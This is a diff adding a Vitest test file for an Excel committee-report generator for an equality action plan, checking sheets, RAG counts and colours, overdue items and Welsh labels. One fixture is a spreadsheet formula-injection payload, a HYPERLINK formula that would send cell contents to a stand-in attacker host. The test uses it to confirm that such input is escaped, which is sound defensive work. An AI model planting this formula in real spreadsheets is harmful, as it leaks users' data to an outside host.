@@ -1,0 +1,170 @@
+import ExcelJS from "exceljs";
+import { beforeAll, describe, expect, it } from "vitest";
+import { changesSince } from "../../../src/plan/changes";
+import type { Action, Objective, ProgressUpdate, Rag } from "../../../src/plan/types";
+import { committeeWorkbook, RAG_COLOURS } from "../../../src/reports/committee-xlsx";
+
+const amara = { id: 7, title: "Amara Okafor", email: "amara.okafor@wres.test" };
+const tom = { id: 8, title: "Tom Hughes", email: "tom.hughes@wres.test" };
+const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+
+function objective(id: number, number: string, title: string, extra: Partial<Objective> = {}): Objective {
+  return { id, etag: '"1"', title, planYear: "2024/25", number, description: null, owner: amara, sponsor: null, indicators: [1], highImpactActions: [], ragOverride: null, ragOverrideReason: null, modified: "2024-10-01T00:00:00Z", ...extra };
+}
+
+function action(id: number, objectiveId: number, number: string, title: string, rag: Rag, extra: Partial<Action> = {}): Action {
+  return { id, etag: '"1"', objectiveId, number, title, leads: [tom], leadText: null, dueDate: "2025-03-31", milestones: null, progress: null, kpis: null, outcomes: null, indicators: [], rag, modified: "2024-10-01T00:00:00Z", ...extra };
+}
+
+function update(id: number, actionId: number, date: string, previousRag: Rag | null, rag: Rag | null, note: string | null): ProgressUpdate {
+  return { id, actionId, author: tom, date, rag, previousRag, note, progress: null, kind: "update" };
+}
+
+const objectives = [objective(1, "1", "Representation at senior levels"), objective(2, "2", HOSTILE, { owner: null }), objective(3, "3", "Not begun")];
+const actions = [
+  action(11, 1, "1.1", "Reverse mentoring", "Green", { progress: "12 pairs matched" }),
+  action(12, 1, "1.2", "Diverse panels", "Red", { dueDate: "2024-11-30", leadText: "Head of Resourcing" }),
+  action(13, 1, "1.3", "Publish data", "Blue"),
+  action(21, 2, "2.1", "-1+1 reduce cases", "Amber", { progress: "@mention the chair" }),
+];
+const updates = [
+  update(1, 11, "2024-10-15T09:00:00Z", "Amber", "Green", "Pairs matched"),
+  update(2, 13, "2024-11-02T09:00:00Z", "Green", "Blue", "Published on the intranet"),
+  update(3, 21, "2024-11-20T09:00:00Z", "Amber", "Amber", "+44 new cases reviewed"),
+];
+const today = "2024-12-05";
+const since = "2024-10-01";
+
+function texts(ws: ExcelJS.Worksheet): string[] {
+  const out: string[] = [];
+  ws.eachRow((row) =>
+    row.eachCell((cell) => {
+      if (typeof cell.value === "string") out.push(cell.value);
+      else if (cell.value && typeof cell.value === "object" && "text" in cell.value) out.push(String(cell.value.text));
+    }),
+  );
+  return out;
+}
+
+function findCell(ws: ExcelJS.Worksheet, value: string): ExcelJS.Cell {
+  let found: ExcelJS.Cell | null = null;
+  ws.eachRow((row) => row.eachCell((cell) => {
+    if (!found && cell.value === value) found = cell;
+  }));
+  if (!found) throw new Error(`no cell ${value} on ${ws.name}`);
+  return found;
+}
+
+function rowOf(ws: ExcelJS.Worksheet, firstCell: string): ExcelJS.Row {
+  let found: ExcelJS.Row | null = null;
+  ws.eachRow((row) => {
+    if (!found && row.getCell(1).value === firstCell) found = row;
+  });
+  if (!found) throw new Error(`no row ${firstCell} on ${ws.name}`);
+  return found;
+}
+
+describe("committeeWorkbook", () => {
+  const wb = new ExcelJS.Workbook();
+  beforeAll(async () => {
+    const bytes = await committeeWorkbook({
+      year: "2024/25",
+      objectives,
+      actions,
+      lastUpdates: { 11: updates[0] as ProgressUpdate, 13: updates[1] as ProgressUpdate, 21: updates[2] as ProgressUpdate },
+      changes: changesSince(updates, actions, since, today),
+      since,
+      today,
+    });
+    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
+  });
+
+  it("has a summary sheet and one sheet per objective, in number order", () => {
+    expect(wb.worksheets.map((ws) => ws.name)).toEqual(["Summary", "1 Representation at senior leve", "2 =HYPERLINK(\"http evil.example", "3 Not begun"]);
+  });
+
+  it("counts actions by RAG and overdue on the summary", () => {
+    const summary = wb.getWorksheet("Summary") as ExcelJS.Worksheet;
+    expect(texts(summary)[0]).toBe("WRES action plan 2024/25: committee report");
+    expect(rowOf(summary, "Red").getCell(2).value).toBe(1);
+    expect(rowOf(summary, "Blue (complete)").getCell(2).value).toBe(1);
+    expect(rowOf(summary, "Total").getCell(2).value).toBe(4);
+    expect(rowOf(summary, "Overdue").getCell(2).value).toBe(1);
+  });
+
+  it("lists each objective with its rolled-up RAG, as text and colour, and its owner", () => {
+    const summary = wb.getWorksheet("Summary") as ExcelJS.Worksheet;
+    const first = rowOf(summary, "1");
+    expect(first.getCell(3).value).toBe("Amara Okafor");
+    expect(first.getCell(4).value).toBe("Red");
+    expect(first.getCell(4).fill).toMatchObject({ type: "pattern", pattern: "solid", fgColor: { argb: RAG_COLOURS.Red.fill } });
+    expect(first.getCell(4).font?.color).toEqual({ argb: RAG_COLOURS.Red.text });
+    expect(rowOf(summary, "3").getCell(4).value).toBe("Not started");
+  });
+
+  it("shows the changes since the chosen date", () => {
+    const summary = wb.getWorksheet("Summary") as ExcelJS.Worksheet;
+    const all = texts(summary);
+    expect(all).toContain("Changes since 2024-10-01");
+    expect(all).toEqual(expect.arrayContaining(["Pairs matched", "Published on the intranet", "'+44 new cases reviewed"]));
+    // 1.2 fell due on 30 November, after the chosen date: newly overdue.
+    const overdueHeader = findCell(summary, "Newly overdue");
+    const overdueRow = summary.getRow(Number(overdueHeader.row) + 2);
+    expect([overdueRow.getCell(1).value, overdueRow.getCell(2).value, overdueRow.getCell(4).value]).toEqual(["1.2", "Diverse panels", "Tom Hughes; Head of Resourcing"]);
+    const move = rowOf(summary, "1.1");
+    expect([move.getCell(3).value, move.getCell(4).value]).toEqual(["Amber", "Green"]);
+    expect(move.getCell(4).fill).toMatchObject({ fgColor: { argb: RAG_COLOURS.Green.fill } });
+  });
+
+  it("writes each objective's actions with leads, due date, RAG colour, progress and last update", () => {
+    const sheet = wb.getWorksheet("1 Representation at senior leve") as ExcelJS.Worksheet;
+    const row = rowOf(sheet, "1.1");
+    expect(row.getCell(2).value).toBe("Reverse mentoring");
+    expect(row.getCell(3).value).toBe("Tom Hughes");
+    expect(row.getCell(4).value).toEqual(new Date(Date.UTC(2025, 2, 31)));
+    expect(row.getCell(5).value).toBe("Green");
+    expect(row.getCell(5).fill).toMatchObject({ fgColor: { argb: RAG_COLOURS.Green.fill } });
+    expect(row.getCell(6).value).toBe("12 pairs matched");
+    expect(row.getCell(7).value).toEqual(new Date(Date.UTC(2024, 9, 15)));
+    expect(row.getCell(8).value).toBe("Pairs matched");
+    const blue = rowOf(sheet, "1.3");
+    expect(blue.getCell(5).value).toBe("Blue (complete)");
+    expect(blue.getCell(5).fill).toMatchObject({ fgColor: { argb: RAG_COLOURS.Blue.fill } });
+    expect(blue.getCell(5).font?.color).toEqual({ argb: "FFFFFFFF" });
+  });
+
+  it("leaves no cell starting with = + - or @ unescaped, and keeps a hostile title as text", () => {
+    for (const ws of wb.worksheets) {
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+          const text = typeof cell.value === "string" ? cell.value : cell.value && typeof cell.value === "object" && "text" in cell.value ? String(cell.value.text) : null;
+          if (text !== null) expect(text, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@]/);
+        }),
+      );
+    }
+    const sheet = wb.worksheets[2] as ExcelJS.Worksheet;
+    expect(texts(sheet)[0]).toBe(`2 ${HOSTILE}`);
+    expect(texts(wb.getWorksheet("Summary") as ExcelJS.Worksheet)).toContain(`'${HOSTILE}`);
+    expect(rowOf(sheet, "2.1").getCell(2).value).toBe("'-1+1 reduce cases");
+    expect(rowOf(sheet, "2.1").getCell(6).value).toBe("'@mention the chair");
+  });
+
+  it("takes display words from the labels the tab passes", async () => {
+    const bytes = await committeeWorkbook({
+      year: "2024/25",
+      objectives,
+      actions,
+      lastUpdates: {},
+      changes: changesSince([], actions, since, today),
+      since,
+      today,
+      labels: { summarySheet: "Crynodeb", rag: { Red: "Coch", Amber: "Ambr", Green: "Gwyrdd", Blue: "Glas" } },
+    });
+    const welsh = new ExcelJS.Workbook();
+    await welsh.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
+    const summary = welsh.getWorksheet("Crynodeb") as ExcelJS.Worksheet;
+    expect(rowOf(summary, "1").getCell(4).value).toBe("Coch");
+    expect(texts(summary)).toContain("None");
+  });
+});
